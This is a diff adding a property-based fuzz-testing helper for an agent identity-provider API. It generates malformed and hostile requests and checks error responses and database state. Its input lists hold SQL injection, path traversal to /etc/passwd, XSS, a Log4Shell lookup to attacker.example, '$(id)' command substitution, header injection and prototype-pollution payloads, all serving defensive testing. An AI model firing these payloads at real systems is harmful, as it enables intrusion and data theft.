@@ -1,0 +1,325 @@
+import { gzipSync } from 'node:zlib'
+import type { InjectOptions, LightMyRequestResponse } from 'fastify'
+import fc from 'fast-check'
+import { expect } from 'vitest'
+import type { App } from '../../src/app.js'
+import { newId } from '../../src/ids.js'
+import { ADMIN_SCOPES } from '../../src/scopes.js'
+import { mintAccessToken } from './tokens.js'
+
+/**
+ * Request generators for property-based tests of every public endpoint. An endpoint is a descriptor; the
+ * generators know how to make hostile paths, query strings, headers, content types, encodings and bodies for
+ * it. Adding an endpoint (the OAuth ones, say) is one entry in ENDPOINTS.
+ */
+
+/** What the suite knows of the app under test: live ids to aim at, tokens to send. */
+export interface FuzzContext {
+  agentIds: string[]
+  credentials: Array<{ agentId: string, credentialId: string }>
+  /** A valid Bearer header holding every admin scope. */
+  adminBearer: string
+  /** A valid Bearer header holding no admin scope. */
+  scopelessBearer: string
+  /** Basic credentials of a live client (for client-authenticated endpoints). */
+  clientBasic: string
+}
+
+export type ErrorKind =
+  /** RFC 9457 application/problem+json (management API, operations, unknown routes). */
+  | 'problem'
+  /** RFC 6749 §5.2 application/json with `error` and Cache-Control: no-store (routes with config.oauth). */
+  | 'oauth'
+
+export interface EndpointDescriptor {
+  name: string
+  method: 'GET' | 'POST' | 'PATCH' | 'DELETE'
+  /** Path template; `:name` segments are filled from `params`. */
+  path: string
+  errorKind: ErrorKind
+  /** How the caller authenticates: a Bearer access token, client credentials (Basic or form), or not at all. */
+  auth: 'bearer' | 'client' | 'none'
+  /** What the body is when it is well formed. */
+  body?: 'json' | 'form'
+  /** A well-formed body or form, which the generators then mutate member by member. */
+  validBody?: (ctx: FuzzContext) => Record<string, unknown>
+  /** Known query members, with values that are valid for them. */
+  query?: Record<string, fc.Arbitrary<string>>
+  /** Values of each path parameter that name something real. */
+  params?: Record<string, (ctx: FuzzContext) => fc.Arbitrary<string>>
+}
+
+// Strings that have broken parsers, validators, databases and loggers somewhere.
+export const HOSTILE_STRINGS: string[] = [
+  '', ' ', '0', '-1', '1e309', 'NaN', 'Infinity', 'null', 'undefined', 'true', '[]', '{}', '[object Object]',
+  '__proto__', 'constructor', 'prototype', 'hasOwnProperty',
+  "'; drop table agents; --", '" or 1=1 --', "') or ('1'='1", '\\', '\\u0000',
+  '\u0000', 'a\u0000b', '%00', '%', '%%', '%ZZ', '%C3%28', '%FF%FE', '%E2%82', '\uD800', '\uDFFF', '\uFFFF', '\uFEFF', '😀', '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
+  'ſ', 'İ', 'ﬀ', '\u202E', '\t', '\r\n', '\n\nX-Injected: 1',
+  '../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '....//....//etc/passwd', '/etc/passwd', 'file:///etc/passwd', 'https://attacker.example/',
+  '<script>alert(1)</script>', '${jndi:ldap://attacker.example/a}', '{{7*7}}', '$(id)', '`id`',
+  '00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', '0190A4F2-0000-7000-8000-000000000000',
+  '{0190a4f2-0000-7000-8000-000000000000}', '0190a4f2000070008000000000000000', '0190a4f2-0000-7000-8000-00000000000g',
+  '2024-13-01', '2024-02-30T00:00:00Z', '9999-12-31T23:59:59Z', '0000-01-01T00:00:00Z', '2024-01-01T00:00:00+25:00', '1970-01-01',
+  'a'.repeat(129), 'a'.repeat(1025), 'a'.repeat(5000), '9'.repeat(40), '-9'.repeat(20), '0x10', '1.5', '+1', ' 1', '1 '
+]
+
+const hostileString: fc.Arbitrary<string> = fc.oneof(
+  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
+  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
+  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
+  { weight: 1, arbitrary: fc.uuid() }
+)
+
+// Values any JSON member may be given instead of the one it expects.
+const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
+  hostileString,
+  fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 53, -(2 ** 63), 1e308, [], {}, [null], { __proto__: { admin: true } }),
+  fc.integer(),
+  fc.double(),
+  fc.array(hostileString, { maxLength: 5 }),
+  fc.dictionary(hostileString, hostileString, { maxKeys: 5 }),
+  fc.jsonValue({ maxDepth: 3 })
+)
+
+// String.prototype.toWellFormed (ES2024) is in Node 20 but not in this project's TypeScript lib.
+const wellFormed = (text: string): string => (text as string & { toWellFormed(): string }).toWellFormed()
+
+/** Percent-encodes, or not, or half: a query or path as a careless or malicious client writes it. */
+const encoded = (value: fc.Arbitrary<string>): fc.Arbitrary<string> => fc.tuple(value, fc.constantFrom('encoded', 'raw', 'double')).map(([text, how]) => {
+  if (how === 'encoded') return encodeURIComponent(wellFormed(text))
+  if (how === 'double') return encodeURIComponent(encodeURIComponent(wellFormed(text)))
+  // Raw: only what can travel in a request line; the rest is encoded.
+  return text.replace(/[^\x21-\x7e]|[#?]/g, (c) => encodeURIComponent(wellFormed(c)))
+})
+
+function queryArbitrary (endpoint: EndpointDescriptor): fc.Arbitrary<string> {
+  const known = Object.entries(endpoint.query ?? {})
+  const names = known.map(([name]) => name)
+  const member: fc.Arbitrary<string> = fc.oneof(
+    // A known member with a valid value, a known member with a hostile one, or anything at all.
+    ...(known.length > 0
+      ? [
+          fc.constantFrom(...known).chain(([name, valid]) => valid.map((value) => `${name}=${encodeURIComponent(value)}`)),
+          fc.tuple(fc.constantFrom(...names), encoded(hostileString)).map(([name, value]) => `${name}=${value}`)
+        ]
+      : []),
+    fc.tuple(encoded(hostileString), encoded(hostileString)).map(([name, value]) => `${name}=${value}`),
+    encoded(hostileString),
+    fc.constantFrom('=', '&', '==', 'a[b]=1', 'a[]=1&a[]=2', '__proto__[admin]=1', 'constructor[prototype][admin]=1', 'limit=1&limit=2')
+  )
+  return fc.oneof(
+    { weight: 1, arbitrary: fc.constant('') },
+    { weight: 4, arbitrary: fc.array(member, { minLength: 1, maxLength: 5 }).map((members) => `?${members.join('&')}`) },
+    { weight: 1, arbitrary: fc.constantFrom('?', '??', '?&&&', `?${'a=1&'.repeat(500)}`, `?limit=${'1'.repeat(400)}`) }
+  )
+}
+
+function pathArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<string> {
+  const names = [...endpoint.path.matchAll(/:([a-z_]+)/g)].map((match) => match[1] as string)
+  const value = (name: string): fc.Arbitrary<string> => fc.oneof(
+    { weight: 3, arbitrary: endpoint.params?.[name]?.(ctx) ?? fc.uuid() },
+    { weight: 1, arbitrary: fc.uuid() },
+    { weight: 3, arbitrary: encoded(hostileString) }
+  )
+  const filled = names.length === 0
+    ? fc.constant(endpoint.path)
+    : fc.tuple(...names.map(value)).map((values) => names.reduce((path, name, i) => path.replace(`:${name}`, values[i] as string), endpoint.path))
+  return fc.tuple(filled, fc.constantFrom('', '', '', '', '/', '//', '/extra', '/..', '%2F', '.json')).map(([path, suffix]) => path + suffix)
+}
+
+const CONTENT_TYPES = [
+  'application/json', 'application/json; charset=utf-8', 'application/json; charset=UTF-8', 'APPLICATION/JSON',
+  'application/json; charset=utf-16le', 'application/json; charset=latin1', 'application/json;;;', 'application/json; boundary=x',
+  'application/x-www-form-urlencoded', 'application/x-www-form-urlencoded; charset=utf-8',
+  'multipart/form-data; boundary=----x', 'text/plain', 'text/html', 'application/xml', 'application/problem+json',
+  'application/merge-patch+json', 'application/octet-stream', 'application/jwt', '*/*', 'json', ';', 'garbage', ' '
+]
+
+type Body = { payload?: string | Buffer, contentType?: string, contentEncoding?: string }
+
+/** A body: the endpoint's valid one with members mutated, JSON of any shape, a form, raw bytes or nothing; sometimes large. */
+function bodyArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<Body> {
+  const valid = endpoint.validBody?.(ctx) ?? {}
+  const mutated: fc.Arbitrary<Record<string, unknown>> = fc.tuple(
+    fc.subarray(Object.keys(valid)),
+    fc.dictionary(fc.oneof(fc.constantFrom(...Object.keys(valid), '__proto__', 'constructor', 'status', 'id'), hostileString), hostileJson, { maxKeys: 3 })
+  ).map(([kept, extra]) => ({ ...Object.fromEntries(kept.map((key) => [key, valid[key]])), ...extra }))
+  const text: fc.Arbitrary<string | Buffer> = fc.oneof(
+    { weight: 4, arbitrary: mutated.map((value) => JSON.stringify(value)) },
+    { weight: 2, arbitrary: hostileJson.map((value) => JSON.stringify(value) ?? 'null') },
+    { weight: 2, arbitrary: mutated.map((value) => new URLSearchParams(Object.entries(value).map(([k, v]) => [wellFormed(k), typeof v === 'string' ? wellFormed(v) : JSON.stringify(v) ?? ''])).toString()) },
+    { weight: 1, arbitrary: hostileString },
+    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes)) },
+    { weight: 1, arbitrary: fc.constantFrom('{', '{"name":', '[', '"', '{"a":1}{"b":2}', '{"name":"a","name":"b"}', '\uFEFF{"name":"a"}', '{"__proto__":{"admin":true},"name":"a"}', 'null', '0', '') },
+    // Larger than the 64 KB body limit, or deeply nested.
+    { weight: 1, arbitrary: fc.constantFrom(JSON.stringify({ name: 'x'.repeat(70 * 1024) }), `${'['.repeat(5000)}${']'.repeat(5000)}`, JSON.stringify({ name: 'a', metadata: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`k${i}`, i])) })) }
+  )
+  const matching = endpoint.body === 'form' ? 'application/x-www-form-urlencoded' : 'application/json'
+  return fc.oneof(
+    { weight: 1, arbitrary: fc.constant({}) },
+    {
+      weight: 6,
+      arbitrary: fc.record({
+        payload: text,
+        contentType: fc.oneof({ weight: 3, arbitrary: fc.constant(matching) }, { weight: 2, arbitrary: fc.constantFrom(...CONTENT_TYPES) }, { weight: 1, arbitrary: fc.constant(undefined) }),
+        contentEncoding: fc.oneof({ weight: 6, arbitrary: fc.constant(undefined) }, { weight: 1, arbitrary: fc.constantFrom('gzip', 'br', 'deflate', 'identity', 'x-garbage', 'gzip, gzip') })
+      }, { requiredKeys: ['payload'] })
+    },
+    // A body that really is gzip.
+    { weight: 1, arbitrary: mutated.map((value) => ({ payload: gzipSync(JSON.stringify(value)), contentType: matching, contentEncoding: 'gzip' })) }
+  )
+}
+
+// Header values as they can travel on the wire: visible ASCII and spaces.
+const headerValue = fc.oneof(
+  fc.constantFrom(...HOSTILE_STRINGS.filter((value) => /^[\x20-\x7e]*$/.test(value))),
+  fc.string({ unit: fc.constantFrom(...' !"#$%&\'()*+,-./0123456789:;<=>?@ABCXYZ[\\]^_`abcxyz{|}~'), maxLength: 60 })
+)
+
+function authorizationArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<string | string[] | undefined> {
+  const garbage = fc.oneof(
+    fc.constant(undefined),
+    headerValue,
+    headerValue.map((value) => `Bearer ${value}`),
+    headerValue.map((value) => `Basic ${Buffer.from(value).toString('base64')}`),
+    fc.constantFrom('Bearer', 'Bearer ', 'Basic', 'Basic !!!', 'Basic Og==', `Bearer ${'A'.repeat(20_000)}`, `${ctx.adminBearer}x`, ctx.adminBearer.toLowerCase())
+  )
+  const valid = endpoint.auth === 'client' ? ctx.clientBasic : ctx.adminBearer
+  return fc.oneof(
+    // Mostly the right credential, so the requests get past authentication to validation and the handler.
+    { weight: endpoint.auth === 'none' ? 1 : 6, arbitrary: fc.constant(valid) },
+    { weight: 1, arbitrary: fc.constant(ctx.scopelessBearer) },
+    { weight: 2, arbitrary: garbage },
+    { weight: 1, arbitrary: fc.constant<string[]>([valid, valid]) }
+  )
+}
+
+/** One generated request and whether it carried the one valid credential of the endpoint. */
+export interface FuzzRequest {
+  options: InjectOptions
+  authorized: boolean
+}
+
+/** Hostile requests aimed at one endpoint: its method mostly, its path with hostile params, any query, headers and body. */
+export function requestArbitrary (endpoint: EndpointDescriptor, ctx: FuzzContext): fc.Arbitrary<FuzzRequest> {
+  return fc.record({
+    method: fc.oneof({ weight: 8, arbitrary: fc.constant(endpoint.method) }, { weight: 1, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD') }),
+    path: pathArbitrary(endpoint, ctx),
+    query: queryArbitrary(endpoint),
+    body: endpoint.body === undefined ? fc.oneof({ weight: 4, arbitrary: fc.constant({} as Body) }, { weight: 1, arbitrary: bodyArbitrary(endpoint, ctx) }) : bodyArbitrary(endpoint, ctx),
+    authorization: authorizationArbitrary(endpoint, ctx),
+    extra: fc.dictionary(
+      fc.constantFrom('accept', 'accept-encoding', 'accept-charset', 'x-request-id', 'x-forwarded-for', 'origin', 'cookie', 'content-length', 'transfer-encoding', 'expect', 'x-http-method-override', 'if-none-match', 'range'),
+      headerValue,
+      { maxKeys: 3 }
+    )
+  }).map(({ method, path, query, body, authorization, extra }) => {
+    const headers: Record<string, string | string[]> = { ...extra }
+    if (authorization !== undefined) headers.authorization = authorization
+    if (body.contentType !== undefined) headers['content-type'] = body.contentType
+    if (body.contentEncoding !== undefined) headers['content-encoding'] = body.contentEncoding
+    const options: InjectOptions = { method: method as InjectOptions['method'], url: path + query, headers: headers as Record<string, string> }
+    if (body.payload !== undefined) options.payload = body.payload
+    const valid = endpoint.auth === 'client' ? ctx.clientBasic : ctx.adminBearer
+    return { options, authorized: authorization === valid }
+  })
+}
+
+const defaultQuery = {
+  limit: fc.integer({ min: 1, max: 100 }).map(String),
+  status: fc.constantFrom('active', 'suspended', 'decommissioned'),
+  owner: fc.string({ maxLength: 10 })
+}
+const anyAgent = (ctx: FuzzContext): fc.Arbitrary<string> => fc.constantFrom(...ctx.agentIds)
+const timestamp = fc.date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true }).map((date) => date.toISOString())
+
+/** Every public endpoint on main, with what makes a request to it well formed. */
+export const ENDPOINTS: EndpointDescriptor[] = [
+  { name: 'POST /api/v1/agents', method: 'POST', path: '/api/v1/agents', errorKind: 'problem', auth: 'bearer', body: 'json', validBody: () => ({ name: 'fuzzed', description: 'd', owner: 'o', scopes: ['weather:read'], metadata: { env: 'test' } }) },
+  { name: 'GET /api/v1/agents', method: 'GET', path: '/api/v1/agents', errorKind: 'problem', auth: 'bearer', query: { ...defaultQuery, cursor: fc.uuid().map((id) => Buffer.from(id).toString('base64url')) } },
+  { name: 'GET /api/v1/agents/{id}', method: 'GET', path: '/api/v1/agents/:id', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent } },
+  { name: 'PATCH /api/v1/agents/{id}', method: 'PATCH', path: '/api/v1/agents/:id', errorKind: 'problem', auth: 'bearer', body: 'json', params: { id: anyAgent }, validBody: () => ({ name: 'renamed', description: null, owner: 'team', scopes: ['a:b'], metadata: { k: 1 }, status: 'active' }) },
+  { name: 'DELETE /api/v1/agents/{id}', method: 'DELETE', path: '/api/v1/agents/:id', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent } },
+  { name: 'GET /api/v1/agents/{id}/usage', method: 'GET', path: '/api/v1/agents/:id/usage', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent }, query: { month: fc.constantFrom('2024-01', '2025-12', '1999-09') } },
+  { name: 'POST /api/v1/agents/{id}/credentials', method: 'POST', path: '/api/v1/agents/:id/credentials', errorKind: 'problem', auth: 'bearer', body: 'json', params: { id: anyAgent }, validBody: () => ({ expires_at: new Date(Date.now() + 86_400_000).toISOString() }) },
+  { name: 'GET /api/v1/agents/{id}/credentials', method: 'GET', path: '/api/v1/agents/:id/credentials', errorKind: 'problem', auth: 'bearer', params: { id: anyAgent } },
+  {
+    name: 'DELETE /api/v1/agents/{id}/credentials/{credential_id}',
+    method: 'DELETE',
+    path: '/api/v1/agents/:id/credentials/:credential_id',
+    errorKind: 'problem',
+    auth: 'bearer',
+    params: { id: anyAgent, credential_id: (ctx) => fc.constantFrom(...ctx.credentials.map((c) => c.credentialId)) }
+  },
+  { name: 'GET /api/v1/audit-events', method: 'GET', path: '/api/v1/audit-events', errorKind: 'problem', auth: 'bearer', query: { type: fc.constantFrom('auth.failed', 'agent.created,agent.updated'), agent_id: fc.uuid(), actor: fc.constantFrom('test-admin', 'anonymous'), since: timestamp, until: timestamp, limit: fc.integer({ min: 1, max: 500 }).map(String), cursor: fc.string({ minLength: 1, maxLength: 20 }) } },
+  { name: 'GET /api/v1/audit-events/export', method: 'GET', path: '/api/v1/audit-events/export', errorKind: 'problem', auth: 'bearer', query: { since: timestamp, until: timestamp } },
+  { name: 'GET /health/live', method: 'GET', path: '/health/live', errorKind: 'problem', auth: 'none' },
+  { name: 'GET /health/ready', method: 'GET', path: '/health/ready', errorKind: 'problem', auth: 'none' },
+  { name: 'GET /metrics', method: 'GET', path: '/metrics', errorKind: 'problem', auth: 'none' },
+  { name: 'GET /docs/json', method: 'GET', path: '/docs/json', errorKind: 'problem', auth: 'none' },
+  { name: 'GET /docs', method: 'GET', path: '/docs', errorKind: 'problem', auth: 'none' },
+  { name: 'GET /docs/static/{file}', method: 'GET', path: '/docs/static/:file', errorKind: 'problem', auth: 'none', params: { file: () => fc.constantFrom('index.html', 'swagger-ui.css', 'swagger-ui-bundle.js', '..%2F..%2Fpackage.json', '%2E%2E/%2E%2E/package.json') } }
+]
+
+/** Seeds the app with agents and credentials to aim at, and the tokens the generators send. */
+export async function prepareFuzzContext (app: App, createAgent: (app: App) => Promise<Record<string, any>>, createCredential: (app: App, agentId: string) => Promise<Record<string, any>>): Promise<FuzzContext> {
+  const agents = [await createAgent(app), await createAgent(app), await createAgent(app)]
+  const credentials = []
+  for (const agent of agents.slice(0, 2)) credentials.push({ agentId: agent.id as string, credentialId: (await createCredential(app, agent.id)).id as string })
+  const client = await createCredential(app, agents[2]?.id)
+  return {
+    agentIds: agents.map((agent) => agent.id as string),
+    credentials,
+    adminBearer: `Bearer ${await mintAccessToken(app, { scopes: ADMIN_SCOPES, expiresIn: 3600 })}`,
+    scopelessBearer: `Bearer ${await mintAccessToken(app, { scopes: ['weather:read'], expiresIn: 3600, sub: newId() })}`,
+    clientBasic: `Basic ${Buffer.from(`${encodeURIComponent(client.client_id)}:${encodeURIComponent(client.client_secret)}`).toString('base64')}`
+  }
+}
+
+/** Rejects when the promise has not settled after ms: a request must never hang. */
+export async function bounded<T> (promise: Promise<T>, ms: number, what: string): Promise<T> {
+  let timer: NodeJS.Timeout | undefined
+  try {
+    return await Promise.race([promise, new Promise<never>((_resolve, reject) => { timer = setTimeout(() => reject(new Error(`${what}: no answer within ${ms} ms`)), ms) })])
+  } finally {
+    clearTimeout(timer)
+  }
+}
+
+/**
+ * An error response of the right kind: problem+json whose status matches the response's, or RFC 6749 JSON with
+ * an error code and no-store. HEAD answers carry no body and are not checked for one.
+ */
+export function expectErrorBody (response: LightMyRequestResponse, kind: ErrorKind, method: string): void {
+  if (method === 'HEAD') return
+  if (kind === 'oauth') {
+    expect(response.headers['content-type']).toMatch(/^application\/json/)
+    expect(response.headers['cache-control']).toBe('no-store')
+    expect(typeof response.json().error).toBe('string')
+    return
+  }
+  expect(response.headers['content-type'], response.body).toMatch(/^application\/problem\+json/)
+  const problem = response.json()
+  expect(problem).toMatchObject({ status: response.statusCode, type: expect.stringMatching(/^urn:agentidp:problem:/), title: expect.any(String) })
+  // No stack trace or internals, whatever went wrong.
+  expect(problem).not.toHaveProperty('stack')
+  expect(response.body).not.toMatch(/\\n\s+at |node_modules/)
+}
+
+/**
+ * A fingerprint of everything in the database: every table's content hashed, except audit_events, whose rows are
+ * counted by type (it only grows). Compare before and after a rejected request.
+ */
+export async function databaseFingerprint (app: App): Promise<{ tables: Record<string, string>, events: Record<string, number> }> {
+  const tables = await app.sql<Array<{ table_name: string }>>`
+    select table_name from information_schema.tables where table_schema = current_schema() and table_type = 'BASE TABLE' and table_name <> 'audit_events' order by table_name`
+  const hashes = await app.sql.unsafe<Array<{ name: string, hash: string }>>(tables.map(({ table_name: name }) =>
+    `select '${name}' as name, md5(coalesce(string_agg(t::text, '|' order by t::text), '')) as hash from "${name}" t`).join(' union all '))
+  const events = await app.sql<Array<{ type: string, count: number }>>`select type, count(*)::int as count from audit_events group by type`
+  return {
+    tables: Object.fromEntries(hashes.map((row) => [row.name, row.hash])),
+    events: Object.fromEntries(events.map((row) => [row.type, row.count]))
+  }
+}
